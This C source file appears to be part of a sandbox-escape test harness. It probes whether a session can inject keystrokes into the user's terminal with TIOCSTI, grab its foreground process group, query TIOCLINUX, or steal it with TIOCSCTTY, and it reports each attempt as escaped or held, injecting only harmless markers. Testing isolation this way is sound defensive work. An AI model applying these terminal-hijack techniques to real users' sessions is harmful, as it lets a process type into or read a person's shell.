/* The terminal: TIOCSTI pushes characters into the input of the tty the
 * session was started from (the harness's pty, stdin and controlling tty),
 * on fd 0, on /dev/tty, and on fd 0 after setsid(); TIOCLINUX on fd 0 and
 * on /dev/tty0. Each injection is a marker `[<item>/<way>]` the harness
 * looks for in the pty's input queue afterwards.
 * Job control: tiocspgrp makes a new process group of the program the
 * terminal's foreground group (SIGTTOU ignored, as a daemon would do): the
 * user's shell is then in the background, and a daemon left behind by the
 * session takes the terminal back whenever the shell does and reads what
 * the user types after the session. Natively the group it replaced is
 * restored; the harness checks the pty's foreground group after the run.
 * (info) TIOCSETD to the line discipline the tty has. No keys. */
#include "kattack.h"
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

NO_HELPERS

/* Pushes the marker one character at a time: 0, or the first error. */
static long inject(long fd, const char *item) {
    char m[96];
    snprintf(m, sizeof m, "[%s/%s]", item, wayname);
    for (char *p = m; *p; p++) {
        long r = TRY(ioctl((int)fd, TIOCSTI, p), SYS_ioctl, fd, TIOCSTI, p);
        if (r < 0) return r;
    }
    return 0;
}

/* Whether fd is the user's terminal (the harness's pty: tty_rdev= on the
 * devpts tty_dev=), not a terminal of the session's own standing in for
 * it (the session's devpts numbers its ptys from 0 too: the device number
 * alone does not tell). */
static int users_tty(int fd) {
    dev_t want = (dev_t)strtoull(arg("tty_rdev"), 0, 10);
    dev_t devpts = (dev_t)strtoull(arg("tty_dev"), 0, 10);
    struct stat st;
    if (fstat(fd, &st) != 0) return 0;
    if (st.st_rdev != makedev(5, 0)) return st.st_rdev == want && st.st_dev == devpts;
    /* The /dev/tty node itself (opened natively): the terminal it stands
     * for, the kernel's encoding. */
    unsigned int d;
    return ioctl(fd, TIOCGDEV, &d) == 0 && major(want) == ((d >> 8) & 0xfff) && minor(want) == ((d & 0xff) | ((d >> 12) & 0xfff00));
}

static void tiocspgrp(void) {
    fflush(stdout);
    pid_t p = fork();
    if (p == 0) {
        signal(SIGTTOU, SIG_IGN);
        long ttyfd = TRY(open("/dev/tty", O_RDWR), SYS_openat, AT_FDCWD, "/dev/tty", O_RDWR, 0);
        int fds[2] = {0, ttyfd >= 0 ? (int)ttyfd : -1};
        for (int k = 0; k < 2; k++) {
            int fd = fds[k];
            const char *what = k ? "/dev/tty" : "fd 0", *item = k ? "tiocspgrp-dev-tty" : "tiocspgrp";
            if (fd < 0) { held(item, "open /dev/tty: %s", err(ttyfd)); continue; }
            int before = tcgetpgrp(fd), me = getpid();
            long r = TRY(setpgid(0, 0), SYS_setpgid, 0, 0);
            if (r == 0) r = TRY(ioctl(fd, TIOCSPGRP, &me), SYS_ioctl, fd, TIOCSPGRP, &me);
            int now = tcgetpgrp(fd);
            if (r == 0 && now == me && users_tty(fd))
                escape(item, "our process group %d is the foreground group of the user's terminal on %s (it was %d)", me, what, before);
            else
                held(item, "%s on %s (foreground group %d, %s)", r < 0 ? err(r) : "no error", what, now,
                     users_tty(fd) ? "the user's terminal" : "the session's own terminal");
            if (before > 0) tcsetpgrp(fd, before);
        }
        int ld = -1;
        long r = TRY(ioctl(0, TIOCGETD, &ld), SYS_ioctl, 0, TIOCGETD, &ld);
        if (r == 0) r = TRY(ioctl(0, TIOCSETD, &ld), SYS_ioctl, 0, TIOCSETD, &ld);
        info("TIOCSETD (to line discipline %d, its own) via %s: %s", ld, wayname, r < 0 ? err(r) : "allowed");
        _exit(0);
    }
    int st;
    if (p < 0 || waitpid(p, &st, 0) != p || !WIFEXITED(st)) held("tiocspgrp", "the child did not report (fork %d)", p);
}

static void attacks(void) {
    long r = inject(0, "tiocsti-stdin");
    if (r == 0) escape("tiocsti-stdin", "pushed a marker into the terminal's input");
    else held("tiocsti-stdin", "%s", err(r));

    long fd = TRY(open("/dev/tty", O_RDONLY), SYS_openat, AT_FDCWD, "/dev/tty", O_RDONLY, 0);
    if (fd < 0) {
        held("tiocsti-dev-tty", "open /dev/tty: %s", err(fd));
    } else {
        r = inject(fd, "tiocsti-dev-tty");
        if (r == 0) escape("tiocsti-dev-tty", "pushed a marker through /dev/tty");
        else held("tiocsti-dev-tty", "%s", err(r));
        closefd(fd);
    }

    /* In a child: setsid() loses the controlling tty; TIOCSTI on a tty that
     * is not the caller's needs CAP_SYS_ADMIN. */
    fflush(stdout);
    pid_t p = fork();
    if (p == 0) {
        long s = TRY(setsid(), SYS_setsid);
        r = inject(0, "tiocsti-setsid");
        if (r == 0) escape("tiocsti-setsid", "setsid %s, then pushed a marker", s < 0 ? err(s) : "ok");
        else held("tiocsti-setsid", "setsid %s, then %s", s < 0 ? err(s) : "ok", err(r));
        _exit(0);
    }
    int st;
    if (p < 0 || waitpid(p, &st, 0) != p || !WIFEXITED(st)) held("tiocsti-setsid", "the child did not report (fork %d)", p);

    char sub[2] = { 6 /* TIOCL_GETSHIFTSTATE */, 0 };
    r = TRY(ioctl(0, TIOCLINUX, sub), SYS_ioctl, 0, TIOCLINUX, sub);
    verdict("tioclinux-stdin", r, "TIOCLINUX answered on fd 0");

    fd = TRY(open("/dev/tty0", O_RDONLY), SYS_openat, AT_FDCWD, "/dev/tty0", O_RDONLY, 0);
    if (fd < 0) {
        held("tioclinux-tty0", "open /dev/tty0: %s", err(fd));
    } else {
        sub[0] = 6;
        r = TRY(ioctl((int)fd, TIOCLINUX, sub), SYS_ioctl, fd, TIOCLINUX, sub);
        verdict("tioclinux-tty0", r, "TIOCLINUX answered on the host's /dev/tty0");
        closefd(fd);
    }

    tiocspgrp();

    /* In the run's last way only (natively root takes the terminal from
     * the harness's session here, which every item before needs): in a
     * child of a session of its own, TIOCSCTTY stealing (arg 1) the
     * terminal on fd 0. The user's terminal is its shell's, and stealing
     * it needs CAP_SYS_ADMIN of the host; a session's own pty is the
     * session's to take. */
    if (W != GADGET && strcmp(wayname, "memfd-raw") != 0) return;
    fflush(stdout);
    p = fork();
    if (p == 0) {
        TRY(setsid(), SYS_setsid);
        long r2 = TRY(ioctl(0, TIOCSCTTY, 1), SYS_ioctl, 0, TIOCSCTTY, 1);
        if (r2 == 0 && users_tty(0) && tcgetsid(0) == getpid())
            escape("tiocsctty-steal", "took the user's terminal as the controlling tty of a session of its own");
        else
            held("tiocsctty-steal", "%s (%s)", r2 < 0 ? err(r2) : "allowed", users_tty(0) ? "the user's terminal" : "the session's own terminal");
        _exit(0);
    }
    if (p < 0 || waitpid(p, &st, 0) != p || !WIFEXITED(st)) held("tiocsctty-steal", "the child did not report (fork %d)", p);
}
